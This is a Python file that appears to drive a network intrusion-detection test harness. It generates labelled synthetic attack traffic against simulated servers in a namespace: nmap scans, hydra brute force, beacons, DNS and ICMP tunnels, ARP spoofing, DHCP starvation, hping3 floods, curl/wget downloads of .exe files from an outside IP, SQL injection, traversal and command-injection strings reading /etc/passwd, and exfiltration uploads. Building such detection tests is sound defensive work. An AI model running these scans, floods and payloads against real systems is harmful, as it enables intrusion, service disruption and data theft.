"""What ``fresh_network.py`` does that should be found, each with the reasons that name it.

Before this on the path: ``fresh_network.py``, which runs one of them in a namespace. After it: ``fresh_talk.py`` and
tools as they are installed. Nothing here works against anybody: the other end is ``fresh_servers.py``.
"""

from __future__ import annotations

import base64
import contextlib
import functools
import os
import random
import subprocess
import time
from collections.abc import Callable

from fresh_talk import (
    connect,
    converse,
    datagram_of,
    echo_of,
    fetch,
    fetch_tls,
    frame_of,
    knock,
    letters,
    look_up,
    near,
    neighbours,
    open_tls,
    paced,
    run,
    send_frames,
    sign_in_by_ssh,
)

OPEN_DOORS = "21,22,25,80,110,143,443,445,1883,5432,8080,8443,9999"
HALF_OPEN = ("hping3", "-S", "-p", "80", "-c", "1500", "-i", "u800")
JITTERS = (0, 0.1, 0.3, 0.5)
CONSONANTS = "bcdfghjklmnpqrstvwxz"
FAR, SILENT = "45.77.9.9", "45.78.1.0/26"
Act = Callable[[], object]


def _nmap(*options: str) -> Act:
    return functools.partial(run, "nmap", "-n", *options)


def _scan_slowly() -> None:
    ports = random.sample(range(1, 9_000), 40)
    for place in paced(40, 0.8):
        knock(near(20), ports[place])


def _hydra(service: str, *more: str) -> Act:
    words = "".join(f"wrong{place}\n" for place in range(30)).encode()
    target = (FAR, service, *more)
    return functools.partial(run, "hydra", "-l", "root", "-P", "/dev/stdin", "-t", "4", "-I", *target, feed=words)


def _ssh() -> None:
    for place in paced(12, 0.3):
        sign_in_by_ssh("nobody", f"wrong{place}", FAR)


def _sign_in(port: int, *words: bytes, times: int = 14) -> Act:
    def act() -> None:
        for place in paced(times, 0.5):
            converse(FAR, port, [one.replace(b"%", str(place).encode()) for one in words], listens_first=True)

    return act


def _web_basic() -> None:
    for place in paced(15, 0.3):
        secret = base64.b64encode(f"admin:pw{place}".encode()).decode()
        fetch("shop.example", "/private/", headers={"Authorization": f"Basic {secret}"}, agent="Mozilla/5.0")


def _web_form() -> None:
    for place in paced(20, 0.3):
        fetch(
            "shop.example", "/login", method="POST", body=f"user=admin&password=x{place}".encode(), agent="Mozilla/5.0"
        )


def _web_beacon(
    period_s: float, jitter: float, *, host: str = "cdn.example", times: int = 14, post: bool = False
) -> Act:
    def act() -> None:
        for _ in paced(times, period_s, jitter):
            fetch(
                host, "/api/v1/check", method="POST" if post else "GET", body=os.urandom(120) if post else None,
                agent="Mozilla/5.0 (Windows NT 10.0; Win64; x64)", is_numeric=host[0].isdigit(),
            )  # fmt: skip

    return act


def _tls_beacon(period_s: float, jitter: float, *, host: str = FAR, port: int = 443, times: int = 14) -> Act:
    def act() -> None:
        for _ in paced(times, period_s, jitter):
            fetch_tls(host, "/c", port=port, is_numeric=host[0].isdigit(), body=b"a" * 64)

    return act


def _bare_beacon(period_s: float, jitter: float, *, port: int = 9_999, times: int = 14) -> Act:
    def act() -> None:
        for _ in paced(times, period_s, jitter):
            converse(FAR, port, [b"\x01\x02" + os.urandom(30)])

    return act


def _kept_beacon(period_s: float, jitter: float, *, port: int = 12_345, times: int = 16) -> Act:
    def act() -> None:
        with connect(FAR, port) as way:
            for _ in paced(times, period_s, jitter):
                way.sendall(b"\x05" + os.urandom(20))
                way.recv(100)

    return act


def _kept_tls_beacon() -> None:
    way = open_tls(FAR, 8_443)
    for _ in paced(16, 3.0, 0.1):
        way.sendall(b"GET /t HTTP/1.1\r\nHost: x\r\n\r\n")
        way.recv(4_096)


def _name_beacon() -> None:
    for _ in paced(14, 3.0, 0.1):
        look_up("cmd.control.example", 16)


def _name_tunnel(kind: int, size: int, pause_s: float, *, labels: int = 1, times: int = 40, alphabet: str = "") -> Act:
    def act() -> None:
        for _ in paced(times, pause_s):
            draw = (letters(size, alphabet) if alphabet else letters(size) for _ in range(labels))
            look_up(".".join(draw) + ".t.carrier.example", kind)

    return act


def _made_up_names(make: Callable[[], str], *, times: int = 14, pause_s: float = 0.5) -> Act:
    def act() -> None:
        for _ in paced(times, pause_s):
            look_up(make())

    return act


def _two_words() -> str:
    words = ("river", "table", "green", "market", "stone", "window", "paper", "bridge", "forest", "silver", "garden")
    return "".join(random.sample(words, 2)) + random.choice((".com", ".net"))


def _carry_in_pings() -> None:
    """Send pieces of different size, answered with something else: both ends are ours, one packet after the other."""
    for number in range(30):
        there, back = os.urandom(random.choice((90, 300, 700))), os.urandom(random.choice((40, 500)))
        send_frames([frame_of(echo_of(near(2), FAR, there, number))], 0.05)
        send_frames([frame_of(echo_of(FAR, near(2), back, number, 0), source="02:00:00:00:00:01")], 0.05)


def _carry_in_echoes() -> None:
    """Send a file by ping to somebody whose system echoes: only the questions differ from an honest ping."""
    for number in range(60):
        send_frames([frame_of(echo_of(near(2), FAR, os.urandom(500), number), target=_router_card())], 0.1)


def _router_card() -> str:
    run("ping", "-c1", near(1))
    told = subprocess.run(["ip", "neigh", "show", near(1)], capture_output=True, text=True, check=False).stdout.split()
    return told[told.index("lladdr") + 1] if "lladdr" in told else "ff" * 6


def _pose_as_router() -> None:
    card, victim = bytes.fromhex("020000000066"), bytes.fromhex("020000000020")
    for place in paced(12, 1.5):
        posed, fooled = ((near(1), near(20)), (near(20), near(1)))[place % 2]
        body = bytes.fromhex("0001080006040002") + card + _packed(posed) + victim + _packed(fooled)
        send_frames([frame_of(body, kind=0x0806, target="02:00:00:00:00:20")])


def _packed(address: str) -> bytes:
    return bytes(int(part) for part in address.split("."))


def _starve() -> None:
    """Ask for an address for many cards that do not exist."""
    for _ in paced(120, 0.02):
        card = b"\x02" + os.urandom(5)
        head = (
            b"\x01\x01\x06\x00"
            + os.urandom(4)
            + bytes(20)
            + card
            + bytes(10 + 192)
            + b"\x63\x82\x53\x63\x35\x01\x01\xff"
        )
        send_frames([frame_of(datagram_of("0.0.0.0", "255.255.255.255", (68, 67), head), source=card.hex())])


def _attack_web(*targets: str) -> Act:
    def act() -> None:
        for target in targets:
            fetch("shop.example", target, agent="Mozilla/5.0")

    return act


def _guess_pages() -> None:
    for place in paced(60, 0.05):
        fetch("shop.example", f"/none/{letters(6)}{place}", agent="Mozilla/5.0", asks_first=False)


def _command_line(prompt: bytes) -> Act:
    """Answer orders as a command line does; there is none."""

    def act() -> None:
        with contextlib.suppress(OSError), connect(FAR, 4_444, 9) as way:
            way.sendall(prompt) if prompt else None
            for answer in (b"uid=1000(anna) gid=1000(anna)\n", b"Linux pc 6.1.0\n", b"total 8\ndrwxr-xr-x 2 root\n"):
                way.recv(100)
                way.sendall(answer + prompt)

    return act


def _mine() -> None:
    orders = [
        b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4' + b"A" * 94 + b'","pass":"x","agent":"m"}}\n'
    ]
    orders += [b'{"id":2,"jsonrpc":"2.0","method":"submit","params":{"id":"7","job_id":"4"}}\n'] * 3
    converse(FAR, 3_333, orders)


def _send_away(port: int, size: int) -> Act:
    def act() -> None:
        with contextlib.suppress(OSError), connect(FAR, port) as way:
            for _ in range(size // 50_000):
                way.sendall(os.urandom(50_000))
            way.recv(100)

    return act


def _send_away_by_web() -> None:
    for _ in range(3):
        fetch(FAR, "/up", method="POST", body=os.urandom(900_000), is_numeric=True, agent="curl/8")


def _send_away_by_tls() -> None:
    fetch_tls(FAR, "/up", port=8_443, body=os.urandom(7_000_000), is_numeric=True)


def _mail_many() -> None:
    for place in range(30):
        words = (
            b"EHLO pc\r\n",
            b"MAIL FROM:<a@site.example>\r\n",
            b"RCPT TO:<b@site.example>\r\n",
            b"DATA\r\n",
            b"buy\r\n.\r\n",
        )
        converse(f"45.77.40.{place + 1}", 25, words, listens_first=True)


def _hold_open() -> None:
    """Begin many web requests and finish none."""
    ways = []
    for _ in range(200):
        with contextlib.suppress(OSError):
            ways.append(connect(FAR, 80))
            ways[-1].sendall(b"GET / HTTP/1.1\r\nHost: x\r\n")
    time.sleep(5)


def _chat_bot() -> None:
    converse(FAR, 12_345, [b"NICK [DEU|XP|48213]\r\nUSER x 0 * :x\r\n", b"JOIN #a\r\n", b"PRIVMSG #a :up\r\n"])


def _worm() -> None:
    for place in paced(60, 0.05):
        knock(f"45.78.{place}.{random.randrange(1, 250)}", 445, 0.1)


def _knock_near() -> None:
    for one in neighbours():
        knock(one, 445)


VERTICAL, ACROSS, SWEEP = "port_scan_vertical", "port_scan_horizontal", "network_sweep"
ATTACKS: dict[str, tuple[Act, str]] = {
    "nmap syn": (_nmap("-Pn", "-sS", "-F", FAR), VERTICAL),
    "nmap connect, near": (lambda: run("nmap", "-n", "-sT", "-F", near(21)), VERTICAL),
    "nmap polite": (_nmap("-Pn", "-sS", "-T2", "--top-ports", "60", FAR), VERTICAL),
    "nmap udp": (_nmap("-Pn", "-sU", "--top-ports", "40", "--max-retries", "0", FAR), VERTICAL),
    "nmap udp, silent": (_nmap("-Pn", "-sU", "--top-ports", "40", "--max-retries", "0", "45.78.1.1"), VERTICAL),
    "nmap fin": (_nmap("-Pn", "-sF", "-F", FAR), VERTICAL),
    "nmap null": (_nmap("-Pn", "-sN", "-F", FAR), VERTICAL),
    "nmap xmas": (_nmap("-Pn", "-sX", "-F", FAR), VERTICAL),
    "nmap ack": (_nmap("-Pn", "-sA", "-F", FAR), VERTICAL),
    "nmap ack, silent": (_nmap("-Pn", "-sA", "-F", "45.78.1.1"), VERTICAL),
    "nmap window": (_nmap("-Pn", "-sW", "-F", FAR), VERTICAL),
    "nmap maimon": (_nmap("-Pn", "-sM", "-F", FAR), VERTICAL),
    "nmap in fragments": (_nmap("-Pn", "-sS", "-f", "-F", FAR), VERTICAL),
    "nmap decoys": (_nmap("-Pn", "-sS", "-F", "-D", "45.77.1.1,45.77.1.2,ME", FAR), VERTICAL),
    "nmap system": (_nmap("-Pn", "-O", "-F", FAR), VERTICAL),
    "nmap versions": (_nmap("-Pn", "-sV", "--version-light", "-p", OPEN_DOORS, FAR), VERTICAL),
    "slow scan": (_scan_slowly, VERTICAL),
    "nmap protocols": (_nmap("-Pn", "-sO", "--max-retries", "0", FAR), SWEEP),
    "nmap who is near": (lambda: run("nmap", "-n", "-sn", near(0) + "/24"), SWEEP),
    "nmap who is there": (_nmap("-sn", "45.77.3.0/26"), SWEEP),
    "nmap pings, silent": (_nmap("-sn", "-PE", SILENT), SWEEP),
    "nmap time stamps": (_nmap("-sn", "-PP", SILENT), SWEEP),
    "nmap one door, silent": (_nmap("-Pn", "-p22", SILENT), ACROSS),
    "nmap one door": (_nmap("-Pn", "-p3389", "45.77.3.0/26"), ACROSS),
    "nmap open door": (_nmap("-Pn", "-p80", "45.77.3.0/26"), ACROSS),
    "nmap doors, near": (lambda: run("nmap", "-n", "-Pn", "-p", "445,3389", near(0) + "/26"), ACROSS),
    "nmap udp door": (_nmap("-Pn", "-sU", "-p161", "--max-retries", "0", SILENT), ACROSS),
    "worm": (_worm, ACROSS),
    "hydra ssh": (_hydra("ssh"), "brute_force"),
    "hydra ftp": (_hydra("ftp"), "brute_force"),
    "hydra imap": (_hydra("imap"), "brute_force"),
    "hydra web": (_hydra("http-get", "/private/"), "brute_force"),
    "ssh by hand": (_ssh, "brute_force"),
    "ftp sign-ins": (_sign_in(21, b"USER root\r\n", b"PASS w%\r\n"), "brute_force"),
    "mail sign-ins": (_sign_in(25, b"EHLO pc\r\n", b"AUTH PLAIN AGEAYg==\r\n"), "brute_force"),
    "pop sign-ins": (_sign_in(110, b"USER root\r\n", b"PASS w%\r\n"), "brute_force"),
    "imap sign-ins": (_sign_in(143, b"a1 LOGIN root w%\r\n"), "brute_force"),
    "web sign-ins": (_web_basic, "brute_force"),
    "web forms": (_web_form, "brute_force"),
    **{f"web beacon {round(100 * jitter)} %": (_web_beacon(3.0, jitter), "beaconing") for jitter in JITTERS},
    "web beacon, bare": (_web_beacon(3.0, 0.1, host=FAR), "beaconing"),
    "web beacon, reports": (_web_beacon(4.0, 0.2, post=True), "beaconing"),
    "web beacon, slow": (_web_beacon(9.0, 0.1, times=8), "beaconing"),
    **{f"tls beacon {round(100 * jitter)} %": (_tls_beacon(3.0, jitter), "beaconing") for jitter in JITTERS},
    "tls beacon, odd door": (_tls_beacon(4.0, 0.1, port=8_443), "beaconing"),
    "tls beacon, self-made": (_tls_beacon(4.0, 0.1, host="update.example", port=8_443), "beaconing"),
    **{f"bare beacon {round(100 * jitter)} %": (_bare_beacon(3.0, jitter), "beaconing") for jitter in JITTERS},
    **{f"kept beacon {round(100 * jitter)} %": (_kept_beacon(3.0, jitter), "beaconing") for jitter in JITTERS},
    "kept beacon, tls": (_kept_tls_beacon, "beaconing"),
    "name beacon": (_name_beacon, "beaconing"),
    "name tunnel": (_name_tunnel(1, 50, 0.1), "dns_tunnel"),
    "name tunnel, short hex": (_name_tunnel(1, 24, 0.3, alphabet="0123456789abcdef"), "dns_tunnel"),
    "name tunnel, text": (_name_tunnel(16, 30, 0.3, times=20), "dns_tunnel"),
    "name tunnel, null": (_name_tunnel(10, 60, 0.1, labels=3), "dns_tunnel"),
    "name tunnel, short labels": (_name_tunnel(1, 12, 0.2, labels=4), "dns_tunnel"),
    "name tunnel, slow": (_name_tunnel(5, 40, 1.5, times=20), "dns_tunnel"),
    "made-up names": (_made_up_names(lambda: letters(12, "abcdefghijklmnopqrstuvwxyz") + ".com"), "dga"),
    "made-up names, digits": (_made_up_names(lambda: letters(8, "0123456789abcdef") + ".info"), "dga"),
    "made-up names, words": (_made_up_names(_two_words), "dga"),
    "made-up names, few": (_made_up_names(lambda: letters(16, CONSONANTS) + ".top", times=5, pause_s=4), "dga"),
    "data in pings": (_carry_in_pings, "icmp_tunnel"),
    "data in echoes": (_carry_in_echoes, "icmp_tunnel"),
    "false router": (_pose_as_router, "arp_spoof"),
    "address starvation": (_starve, "dhcp_attack"),
    "program, bare": (lambda: run("curl", "-s", "-o", "/dev/null", f"http://{FAR}/a.exe"), "malware_download"),
    "program, odd door": (lambda: run("wget", "-qO", "/dev/null", f"http://{FAR}:8080/b.exe"), "malware_download"),
    "program, false type": (lambda: fetch("img.example", "/logo.dat", agent="Mozilla/4.0"), "malware_download"),
    "web, injection": (_attack_web("/page?id=1%27%20UN" + "ION%20SEL" + "ECT%201,2,3--%20-"), "web_attack"),
    "web, climbing": (_attack_web("/page?f=" + "../" * 6 + "etc/" + "passwd"), "web_attack"),
    "web, script": (_attack_web("/page?q=%3Cscr" + "ipt%3Ealert(1)%3C/script%3E"), "web_attack"),
    "web, command": (_attack_web("/page?ip=1;cat%20/etc/" + "passwd"), "web_attack"),
    "web, pages guessed": (_guess_pages, "web_attack"),
    "shell, backwards": (_command_line(b"$ "), "remote_shell"),
    "shell, silent": (_command_line(b""), "remote_shell"),
    "mining": (_mine, "crypto_mining"),
    "flood, syn": (lambda: run(*HALF_OPEN, "45.78.1.1"), "dos_flood"),
    "flood, many senders": (lambda: run(*HALF_OPEN, "--rand-source", FAR), "dos_flood"),
    "flood, udp": (lambda: run("hping3", "-2", "-p", "80", "-c", "6000", "-i", "u400", "45.78.1.1"), "dos_flood"),
    "flood, ping": (lambda: run("hping3", "-1", "-c", "6000", "-i", "u400", FAR), "dos_flood"),
    "flood, ack": (lambda: run("hping3", "-A", "-p", "80", "-c", "6000", "-i", "u400", "45.78.1.1"), "dos_flood"),
    "flood, held open": (_hold_open, "dos_flood"),
    "upload, bare": (_send_away(9_999, 3_000_000), "exfiltration"),
    "upload, web": (_send_away_by_web, "exfiltration"),
    "upload, tls": (_send_away_by_tls, "exfiltration"),
    "mail to many": (_mail_many, "spam_bot"),
    "chat bot": (_chat_bot, "c2_channel"),
    "neighbours' doors": (_knock_near, ACROSS),
}  # fmt: skip
"""Name -> what is done, and the reason that should be told."""
